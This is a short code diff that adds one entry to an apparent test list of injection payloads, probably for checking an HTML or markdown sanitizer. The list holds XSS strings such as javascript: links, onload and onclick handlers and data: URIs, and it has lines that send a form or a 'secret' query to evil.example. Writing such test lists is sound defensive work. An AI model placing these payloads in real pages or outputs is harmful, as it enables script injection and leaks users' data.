@@ -19,6 +19,7 @@ const INJECTIONS = [
   '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
   "<form action=https://evil.example><input name=a><button>x</button></form>",
   "[x](javascript:alert(1))",
+  "[x](javascript://example.com/%0Aalert(1))",
   "[x](data:text/html;base64,PHNjcmlwdD4=)",
   "![x](https://evil.example/p.png?secret)",
   "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
